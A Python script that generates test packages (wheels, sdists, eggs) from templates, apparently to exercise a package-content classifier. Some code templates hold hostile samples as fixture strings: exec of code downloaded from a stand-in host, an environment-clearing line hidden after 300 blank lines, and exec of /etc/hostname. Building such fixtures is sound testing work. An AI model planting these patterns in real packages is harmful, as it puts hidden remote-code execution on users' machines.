"""Payloads of every kind, each as two projects from one template, as wheel and as sdist."""

from book import Entry
from mirror_recipe import metadata_text

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00\x01\x00\x00\x00" + bytes(400)
PE = b"MZ\x90\x00" + bytes(300)
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4
CSV = "a,b\n" + "".join(f"{n},{n * n}\n" for n in range(40))

# (kind, word, {path: content}); "{m}" in paths and texts is the module, "{p}" the
# project, "{v}" the version.
TEMPLATES = (
    ("none", "nothing", {}),
    ("blank", "init", {"{m}/__init__.py": ""}),
    ("blank", "spaces", {"{m}/__init__.py": "\n\n   \n\t\n"}),
    ("blank", "comment", {"{m}/__init__.py": "#!/usr/bin/env python\n# -*- coding: utf-8 -*-\n# {p}\n"}),
    ("blank", "docstring", {"{m}/__init__.py": '"""This is {p}.\n\nNothing yet."""\n'}),
    ("blank", "several", {"{m}/__init__.py": "", "{m}/core.py": "# todo\n", "{m}/a/__init__.py": ""}),
    ("blank", "module", {"{m}.py": "'''only words'''\n"}),
    ("blank", "bom", {"{m}/__init__.py": b"\xef\xbb\xbf# a mark first\n"}),
    ("blank", "crlf", {"{m}/__init__.py": "# one\r\n\r\n# two\r\n"}),
    ("constant", "version", {"{m}/__init__.py": '__version__ = "{v}"\n'}),
    ("constant", "docstring", {"{m}/__init__.py": '"""Doc."""\n__author__ = "x"\n__all__ = []\n'}),
    ("constant", "values", {"{m}/__init__.py": "A = 1\nB = -2.5\nC = (1, 2)\nD = {{'k': [1, None]}}\n"
                            "E = True\nF = b'x'\nG = 'a' 'b'\nH = I = 0x1F\n"}),
    ("constant", "annotated", {"{m}/__init__.py": "X: int = 3\nY: str = 'y'\n"}),
    ("constant", "module", {"{m}.py": "LIMIT = 10\n"}),
    ("constant", "beside-blank", {"{m}/__init__.py": "", "{m}/version.py": "VERSION = (0, 1)\n"}),
    ("stub", "hello", {"{m}/__init__.py": 'print("Hello, world")\n'}),
    ("stub", "hello-main", {"{m}/__init__.py": "", "{m}/main.py":
                            'def main():\n    print("Hello from {p}")\n\n\n'
                            'if __name__ == "__main__":\n    main()\n'}),
    ("stub", "python-2", {"{m}/__init__.py": 'def hello():\n    print "hello"\n'}),
    ("stub", "pass", {"{m}/__init__.py": "pass\n"}),
    ("stub", "raise", {"{m}/__init__.py": 'raise NotImplementedError("{p} is reserved")\n'}),
    ("stub", "class", {"{m}/__init__.py": "class Thing(object):\n    pass\n"}),
    ("stub", "class-doc", {"{m}/__init__.py": 'class Thing:\n    """Soon."""\n\n'
                           "    def run(self):\n        pass\n"}),
    ("stub", "return", {"{m}/__init__.py": "def answer():\n    return 42\n\n\ndef nothing():\n"
                        "    return None\n"}),
    ("stub", "joke", {"{m}/__init__.py": "def joke():\n    return ('one'\n            'two')\n"}),
    ("stub", "ellipsis", {"{m}/__init__.py": "def later(x, y=1): ...\n\n\nasync def much_later(): ...\n"}),
    ("stub", "only-ellipsis", {"{m}/__init__.py": "...\n"}),
    ("stub", "imports", {"{m}/__init__.py": "import os\nfrom sys import path\n"}),
    ("stub", "own-import", {"{m}/__init__.py": "from .core import main\n",
                            "{m}/core.py": "def main():\n    print('x')\n"}),
    ("stub", "constant-and-function", {"{m}/__init__.py": "__version__ = '1'\n\n\ndef f():\n"
                                       "    '''Doc.'''\n    return __version__\n"}),
    ("stub", "add-one", {"{m}/__init__.py": "def not_implemented():\n    raise NotImplementedError\n"}),
    ("stub", "message", {"{m}/__init__.py": "import sys\n\nprint('{p} is not ready', end='')\n"}),
    ("stub", "typed", {"{m}/__init__.py": "", "{m}/api.py": "def main() -> None:\n"
                       "    \"\"\"Entry.\"\"\"\n    print('main')\n    return None\n"}),
    ("stub", "exception", {"{m}/__init__.py": "class {m}Error(Exception):\n    pass\n"}),
    ("stub", "several-prints", {"{m}/__init__.py": "print('one')\nprint('two', 2)\nprint()\n"}),
    ("stub", "nested-pass", {"{m}/__init__.py": "class A:\n    class B:\n        pass\n\n"
                             "    def f(self):\n        return 'x'\n"}),
    ("constant", "arithmetic", {"{m}.py": "MINUTE = 60\nHOUR = 60 * 60\n"}),
    ("constant", "list", {"{m}/__init__.py": "NAMES = [\n" + "    'name',\n" * 20 + "]\n"}),
    ("blank", "continuation", {"{m}/__init__.py": "# a \\\n# b\n\\\n\n"}),
    ("data", "table", {"{m}/__init__.py": "", "{m}/table.csv": CSV}),
    ("data", "json", {"{m}/__init__.py": "# data\n", "{m}/d/values.json": '{{"a": [1, 2, 3]}}\n'}),
    ("data", "image", {"{m}/__init__.py": "", "{m}/logo.png": PNG}),
    ("data", "beside-stub", {"{m}/__init__.py": "print('hi')\n", "{m}/words.txt": "a b c\n" * 50}),
    ("native", "so", {"{m}/__init__.py": "from ._m import *\n", "{m}/_m.cpython-311-x86_64-linux-gnu.so": ELF}),
    ("native", "abi3", {"{m}/__init__.py": "", "{m}/_m.abi3.so": ELF}),
    ("native", "pyd", {"{m}/__init__.py": "import os\n", "{m}/_m.cp311-win_amd64.pyd": PE}),
    ("native", "top", {"_{m}.cpython-39-darwin.so": ELF}),
    ("code", "parameter", {"{m}/__init__.py": "def add(a, b):\n    return a + b\n"}),
    ("code", "print-parameter", {"{m}/__init__.py": "def hello(name):\n    print('hello', name)\n"}),
    ("code", "global", {"{m}.py": "def on():\n    global state\n    state = 1\n"}),
    ("code", "loop", {"{m}/__init__.py": "def total(items):\n    n = 0\n    for item in items:\n"
                      "        n += item\n    return n\n"}),
    ("code", "call", {"{m}/__init__.py": "import os\n\nos.system('true')\n"}),
    ("code", "exec", {"{m}/__init__.py": "exec(open('/etc/hostname').read())\n"}),
    ("code", "hidden", {"{m}/__init__.py": "pass\n" + "\n" * 300 + " " * 0 +
                        "__import__('os').environ.clear()\n"}),
    ("code", "class", {"{m}/__init__.py": "class Counter:\n    def __init__(self, start):\n"
                       "        self.n = start\n\n    def up(self):\n        self.n += 1\n"
                       "        return self.n\n"}),
    ("code", "generator", {"{m}.py": "def pairs(rows):\n    yield from zip(rows, rows[1:])\n"}),
    ("code", "decorator", {"{m}/__init__.py": "import functools\n\n\ndef twice(f):\n"
                           "    @functools.wraps(f)\n    def inner(*a, **k):\n        f(*a, **k)\n"
                           "        return f(*a, **k)\n    return inner\n"}),
    ("code", "python-2", {"{m}/__init__.py": "def show(x):\n    print >>x, 'a', `x`\n    exec x\n"}),
    ("code", "match", {"{m}/__init__.py": "def kind(x):\n    match x:\n        case [a, *_]:\n"
                       "            return a\n        case _:\n            return x\n"}),
    ("code", "latin-1", {"{m}/__init__.py": "# -*- coding: latin-1 -*-\ndef f(x):\n"
                         "    return x + '\u00fc'\n".encode("latin-1")}),
    ("code", "own-name", {"{m}/__init__.py": "def {m}(x):\n    # {p}\n    return '{p}' + x\n"}),
    ("code", "while", {"{m}.py": "def wait(check):\n    while not check():\n        pass\n"}),
    ("code", "try", {"{m}.py": "def safe(f):\n    try:\n        return f()\n    except OSError:\n"
                     "        return None\n"}),
    ("code", "lambda", {"{m}.py": "double = lambda x: x * 2\n"}),
    ("code", "download", {"{m}/__init__.py": "import urllib.request\n\nexec(urllib.request.urlopen("
                          "'http://x.example/').read())\n"}),
    ("code", "walrus", {"{m}.py": "def f(x):\n    if (n := len(x)) > 3:\n        return n\n"}),
    ("code", "f-strings", {"{m}.py": "def f(x):\n    return f'{{x!r:>{{len(x)}}}} {{x[\"a\"]}}'\n"}),
    ("code", "pyi", {"{m}/__init__.pyi": "def f(x: int) -> str: ...\n"}),
    ("code", "deep", {"{m}/__init__.py": "", "{m}/a/__init__.py": "", "{m}/a/b/__init__.py":
                      "def deep(x):\n    return [y for y in x if y]\n"}),
    ("code", "beside-data", {"{m}/__init__.py": "def f(x):\n    return x * 2\n", "{m}/t.csv": CSV}),
)


def files_of(template, project, version="1.0"):
    module = project.replace("-", "_")

    def filled(content):
        if isinstance(content, bytes):
            return content
        return content.format(m=module, p=project, v=version)
    return [(path.format(m=module), filled(content)) for path, content in template.items()]


def setup_files(project, files):
    """The build files that install exactly `files`, in one of three ways."""
    module = project.replace("-", "_")
    folders = sorted({path.rsplit("/", 1)[0].replace("/", ".") for path, _ in files
                      if "/" in path})
    modules = [module] if any(path == f"{module}.py" for path, _ in files) else []
    setup = (f"from setuptools import setup\n\nsetup(name='{project}', version='1.0', "
             f"packages={folders!r}, py_modules={modules!r},\n      include_package_data=True)\n")
    return [("setup.py", setup), ("README.md", f"# {project}\n\nAbout {project}.\n"),
            ("LICENSE", "Do what you like.\n"), ("MANIFEST.in", f"graft {module}\n")]


def add_template(book, kind, word, template):
    label = f"{kind}/{word}"
    distinct = kind in ("stub", "code", "data", "native")
    for letter in "ab":
        project = book.unique(f"payload-{kind}-{word}-{letter}")
        version = "1.0" if letter == "a" else "2.7"
        files = files_of(template, project, version)
        facts = {"payload_kind": kind, "signature": label, "distinct": distinct}
        tag = "cp311-cp311-linux_x86_64" if kind == "native" else "py3-none-any"
        info = metadata_text(project, version, Author="Someone",
                             Author_email=f"{letter}@{letter}.example")
        book.wheel(project, files, info, version=version, tag=tag, **facts)
        # A compiled module is in no honest sdist.
        if kind != "native":
            book.sdist(project, setup_files(project, files) + files, info, version=version, **facts)
        if letter == "a" and kind != "native":
            book.egg(project, files_of(template, project, "0.9"), version="0.9", **facts)


def add_requirers(book):
    """Requirements make a metapackage of nothing and of a blank, and of nothing else."""
    for word, files, requires, kind in (
            ("none", {}, ["other", "more>=2"], "metapackage"),
            ("blank", {"{m}/__init__.py": ""}, ["other"], "metapackage"),
            ("stub", {"{m}/__init__.py": "import other\n"}, ["other"], "stub"),
            ("constant", {"{m}.py": "A = 1\n"}, ["other"], "constant"),
            ("code", {"{m}.py": "def f(x):\n    return x + 1\n"}, ["other"], "code"),
            ("self", {}, ["requires-self[all]"], "none")):
        project = book.unique(f"requires-{word}")
        info = metadata_text(project, "1.0", Requires_Dist=requires)
        book.wheel(project, files_of(files, project), info, payload_kind=kind)
        book.sdist(project, setup_files(project, files_of(files, project))
                   + files_of(files, project), info, payload_kind=kind)


def add_boilerplate(book):
    """Files that no installation would bring: they do not count."""
    work = "import os\n\n\ndef test_it(tmp):\n    assert os.path.join(tmp, 'x')\n"
    for word, extra in (
            ("tests", [("tests/__init__.py", ""), ("tests/test_it.py", work)]),
            ("test-file", [("test_it.py", work)]),
            ("docs", [("docs/conf.py", work), ("docs/index.rst", "x\n")]),
            ("root-files", [("conftest.py", work), ("noxfile.py", work), ("tox.ini", "[tox]\n")]),
            ("ci", [(".github/workflows/ci.yml", "on: push\n"), ("Makefile", "all:\n")]),
            ("setup-code", [("setup.cfg", "[metadata]\nname = x\n")])):
        project = book.unique(f"boilerplate-{word}")
        files = files_of({"{m}/__init__.py": "# empty\n"}, project)
        book.sdist(project, setup_files(project, files) + extra + files, payload_kind="blank",
                   signature="blank/init")
    project = book.unique("src-layout")
    files = files_of({"{m}/__init__.py": "def f(x):\n    return [x] * 7\n"}, project)
    book.wheel(project, files, payload_kind="code", signature="src-layout", distinct=True)
    book.sdist(project, [(f"src/{path}", content) for path, content in files] + [
        ("setup.py", "from setuptools import setup, find_packages\nsetup(package_dir={'': 'src'}, "
         "packages=find_packages('src'))\n")], payload_kind="code", signature="src-layout",
        distinct=True)
    project = book.unique("wheel-script-code")
    book.wheel(project, [], scripts=[("tool", "#!python\nimport sys\n\nfor a in sys.argv:\n"
                                      "    print(a.upper())\n")], payload_kind="code",
               entries=[Entry("scripts", "tool", None, "", "wheel")])


def add_cases(book):
    for kind, word, template in TEMPLATES:
        add_template(book, kind, word, template)
    add_requirers(book)
    add_boilerplate(book)
